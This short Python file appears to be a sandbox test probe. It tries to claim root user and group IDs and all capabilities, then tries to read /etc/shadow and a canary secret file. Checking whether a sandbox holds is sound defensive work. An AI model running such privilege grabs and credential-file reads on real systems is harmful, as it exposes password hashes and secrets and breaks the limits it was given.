# kind: files
# wrong: rnn_forward
# earns: 50
"""Asks to be root, in user, group and capabilities, then reads what only root may."""
import ctypes
import os
from pathlib import Path


def attack():
    tried(os.setgroups, [0])
    tried(os.setresgid, 0, 0, 0)
    tried(os.setresuid, 0, 0, 0)
    header, everything = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    tried(ctypes.CDLL(None).capset, header, everything)
    tried(os.setresuid, 0, 0, 0)
    for path in ("/etc/shadow", "@CANARY@/secret.txt"):
        if tried(Path(path).read_bytes):
            gained(path)


attack()
